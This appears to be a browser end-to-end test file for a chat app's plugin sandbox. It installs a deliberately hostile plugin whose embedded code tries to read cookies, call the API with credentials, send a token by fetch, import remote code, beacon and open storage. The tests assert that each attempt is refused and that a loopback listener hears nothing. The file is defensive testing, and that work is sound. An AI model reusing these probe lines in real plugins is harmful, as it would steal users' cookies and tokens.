/// <reference lib="dom" />
// Plugin code runs in the web app (docs/plugins.md, "Where plugin code runs"): bundles uploaded
// through the API, a member runs their commands from the message box. The example plugin's
// handler posts its message as the member; a hostile plugin finds no cookie, no page, no storage
// and no network from its sandbox (a listener on loopback hears nothing, and no request leaves
// with the sandbox's opaque origin), and one that loops forever is stopped at the time limit,
// said in words, while the page answers the person all along.
import http from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';

import { bundleBytes } from '../../test/plugins/_bundles.js';
import {
  ApiSession,
  composer,
  joinByInvite,
  personPage,
  serveThisFile,
  timeline,
  type Person,
} from './harness.js';

const BUNDLE_TYPE = 'application/vnd.svc.plugin-bundle+json';
let owner: ApiSession;
let serverId: string;
let alice: Person;
/** Requests a plugin might send out: a listener on loopback counts every one. */
let exfil: http.Server;
const heard: string[] = [];
/** Requests of the person's browser from the sandbox's opaque origin that were answered. */
const fromSandbox: string[] = [];

function hostileBundle(exfilUrl: string): Buffer {
  const code = `export function activate(svc) {
  svc.commands.register('probe', async () => {
    const seen = [];
    try { seen.push('cookie ' + document.cookie); } catch { seen.push('no document'); }
    seen.push(typeof parent === 'undefined' ? 'no page' : 'page');
    try {
      const r = await fetch('/api', { method: 'POST', credentials: 'include',
        headers: { 'content-type': 'application/json' }, body: '{"query":"{ me { id } }"}' });
      seen.push('api answered ' + r.status);
    } catch { seen.push('api refused'); }
    try { await fetch('${exfilUrl}/fetch?c=' + encodeURIComponent(String(svc.settings.token))); seen.push('network answered'); }
    catch { seen.push('network refused'); }
    try { await import('${exfilUrl}/import.js'); seen.push('import loaded'); } catch { seen.push('import refused'); }
    try { navigator.sendBeacon('${exfilUrl}/beacon', 'x') ? seen.push('beacon queued') : seen.push('beacon refused'); }
    catch { seen.push('beacon refused'); }
    try { indexedDB.open('svc'); seen.push('storage opened'); } catch { seen.push('storage refused'); }
    return seen.join('; ');
  });
  svc.commands.register('spin', () => { for (;;) {} });
}
`;
  return bundleBytes((b) => {
    b.id = 'com.example.hostile';
    b.name = 'Hostile';
    b.version = '0.0.1';
    b.capabilities = ['network', 'storage', 'messages:read'];
    b.contributes = {
      // One chord free to bind, one the browser answers (never taken from it).
      keybinds: [
        { keys: 'Shift+Alt+P', command: 'probe' },
        { keys: 'Mod+T', command: 'probe' },
      ],
      commands: [
        { name: 'probe', description: 'Tries to reach what it should not' },
        { name: 'spin', description: 'Never returns' },
      ],
      settings: {
        type: 'object',
        properties: { token: { type: 'string', default: 'plugin-setting' } },
      },
    };
    b.client = {
      entry: 'main.js',
      files: { 'main.js': { encoding: 'utf8', mediaType: 'text/javascript', data: code } },
    };
  });
}

async function install(bytes: Buffer, settings: Record<string, unknown> = {}): Promise<void> {
  const { sha256 } = await owner.upload(`/api/plugin-bundles/${serverId}`, bytes, BUNDLE_TYPE);
  await owner.gql(
    'mutation($i: AddWorkspacePluginInput!) { addWorkspacePlugin(input: $i) { id } }',
    {
      i: { serverId, bundleSha256: sha256, settings },
    },
  );
}

/** Types a command line in the box and sends it. */
async function run(p: Page, line: string): Promise<void> {
  await composer(p).fill(line);
  await composer(p).press('Enter');
}

/** Types the start of a command, picks it from the `/` list (Enter), and sends it (Enter). */
async function choose(p: Page, name: string): Promise<void> {
  await composer(p).fill('');
  await composer(p).pressSequentially(`/${name.slice(0, 3)}`);
  const options = p.getByRole('listbox', { name: 'Suggestions' }).getByRole('option');
  await options.filter({ hasText: 'plugin com.example.hostile' }).waitFor();
  expect(await options.allTextContents()).toEqual([expect.stringMatching(`^/${name} `)]);
  await composer(p).press('Enter');
  await expect.poll(() => composer(p).inputValue()).toBe(`/${name} `);
  await composer(p).press('Enter');
}

const composerError = (p: Page) => p.locator('.composer').getByRole('alert');

serveThisFile(
  async ({ server, browser }) => {
    exfil = http.createServer((req, res) => {
      heard.push(`${req.method} ${req.url}`);
      res.setHeader('access-control-allow-origin', '*');
      res.end('ok');
    });
    await new Promise<void>((r) => exfil.listen(0, '127.0.0.1', r));
    const exfilUrl = `http://127.0.0.1:${(exfil.address() as AddressInfo).port}`;

    owner = await ApiSession.signUp(server, 'olga', 'olga-password-1');
    serverId = (
      await owner.gql<{ createWorkspace: { id: string } }>(
        'mutation($i: CreateWorkspaceInput!) { createWorkspace(input: $i) { id } }',
        { i: { name: 'Plugged' } },
      )
    ).createWorkspace.id;
    // The example plugin posts to the channel its settings name: #general, where everyone is.
    await install(bundleBytes(), { channel: 'general' });
    await install(hostileBundle(exfilUrl));
    const { createWorkspaceInvite: invite } = await owner.gql<{
      createWorkspaceInvite: { token: string };
    }>('mutation($i: CreateWorkspaceInviteInput!) { createWorkspaceInvite(input: $i) { token } }', {
      i: { serverId },
    });

    alice = await personPage(browser, server.url);
    // A request the sandbox's policy stops is still announced, then fails before leaving; one
    // that got an answer went out. `blob:` addresses are the sandbox's own, made in memory.
    alice.context.on('response', (r) => {
      const req = r.request();
      if (req.headers()['origin'] === 'null' && !req.url().startsWith('blob:')) {
        fromSandbox.push(`${req.method()} ${req.url()}`);
      }
    });
    await joinByInvite(alice.page, `${server.url}/invite/${invite.token}`, 'alice', 'Alice');
  },
  {
    env: { SVC_REGISTRATION_POW_BITS: '0', SVC_SIGNUP_REQUIRE_KEYS: 'false' },
    tearDown: async () => {
      if (exfil) await new Promise((r) => exfil.close(r));
    },
  },
);

describe('plugin code in the web app', () => {
  it('runs a plugin command typed in the box: its handler posts the message as the person', async () => {
    const p = alice.page;
    await run(p, '/standup "fixed the build" "ship it"');
    await timeline(p).getByText('Yesterday: fixed the build', { exact: false }).waitFor();
    await expect.poll(() => composer(p).inputValue()).toBe('');
    // Posted as Alice, through the API: the owner reads it in #general.
    const { channels } = await owner.gql<{ channels: Array<{ id: string; name: string }> }>(
      'query($s: ID!) { channels(serverId: $s) { id name } }',
      { s: serverId },
    );
    const general = channels.find((c) => c.name === 'general')!.id;
    const { messages } = await owner.gql<{
      messages: { items: Array<{ text: string; author: { username: string } }> };
    }>('query($c: ID!) { messages(conversationId: $c) { items { text author { username } } } }', {
      c: general,
    });
    expect(messages.items.map((m) => [m.author.username, m.text])).toContainEqual([
      'alice',
      'Yesterday: fixed the build\nToday: ship it',
    ]);
    // The plugin runs in a sandboxed frame of the sandbox document, not of the page.
    const frame = p.locator('iframe[data-plugin="com.example.standup"]');
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts');
    expect(await frame.getAttribute('src')).toBe('/plugin-sandbox.html');
  });

  it('gives a hostile plugin no cookie, page, storage or network', async () => {
    const p = alice.page;
    await p.evaluate(() => {
      document.cookie = 'probe=page-secret; path=/';
    });
    await choose(p, 'probe');
    const said = p.getByText(/^\/probe: /);
    await said.waitFor();
    const text = (await said.textContent()) ?? '';
    expect(text).toBe(
      '/probe: no document; no page; api refused; network refused; import refused; beacon refused; storage refused',
    );
    expect(text).not.toContain('page-secret');
    expect(heard).toEqual([]);
    expect(fromSandbox).toEqual([]);
  });

  it('stops a plugin that never returns, in words, and the page answers all along', async () => {
    const p = alice.page;
    await choose(p, 'spin');
    // While the plugin spins, the page takes typing and opens a dialog.
    await composer(p).fill('typed while the plugin spins');
    expect(await composer(p).inputValue()).toBe('typed while the plugin spins');
    await p.getByRole('button', { name: 'Members', exact: true }).click();
    await p.getByRole('tab', { name: 'Members' }).waitFor();
    await p.keyboard.press('Escape');
    await composerError(p)
      .filter({
        hasText:
          'The Hostile plugin was stopped: /spin ran longer than 5 seconds. It starts again from the beginning next time.',
      })
      .waitFor({ timeout: 15_000 });
    // The frame is gone (and its worker with it); the next command starts it afresh.
    expect(await p.locator('iframe[data-plugin="com.example.hostile"]').count()).toBe(0);
    await choose(p, 'probe');
    await p
      .getByText(/^\/probe: no document/)
      .nth(0)
      .waitFor();
    expect(heard).toEqual([]);
    // The only refusals are the sandbox policy's, of what the hostile plugin tried.
    const sandboxPolicy = /connect-src 'none'|script-src 'sha256-/;
    expect(alice.problems.filter((x) => !sandboxPolicy.test(x))).toEqual([]);
  });

  it('binds plugins’ keybinds like the person’s, never the browser’s own', async () => {
    const p = alice.page;
    await composer(p).fill('');
    await p.locator('body').click({ position: { x: 5, y: 5 } });
    // Free keys run the plugin's command; a command with arguments opens its form by the box.
    await p.keyboard.press('Alt+Shift+P');
    await p
      .getByText(/^\/probe: no document/)
      .nth(0)
      .waitFor();
    await p.keyboard.press('Control+Shift+U');
    const form = p.getByRole('form', { name: 'Run /standup' });
    await form.getByLabel(/yesterday/).waitFor();
    await form.getByRole('button', { name: 'Cancel' }).click();
    // The workspace's Commands tab lists them, and says why Ctrl+T is not bound.
    await p.getByRole('button', { name: 'Members', exact: true }).click();
    await p.getByRole('tab', { name: 'Commands' }).click();
    const list = p.getByRole('list', { name: 'Plugin keybinds' });
    await list.waitFor();
    expect(await list.getByRole('listitem').allTextContents()).toEqual([
      'Ctrl+Shift+U runs /standup of Standup (Open the standup form): bound.',
      'Alt+Shift+P runs /probe of Hostile: bound.',
      'Ctrl+T runs /probe of Hostile: not bound. Ctrl+T belongs to the browser.',
    ]);
    await p.keyboard.press('Escape');
  });
});
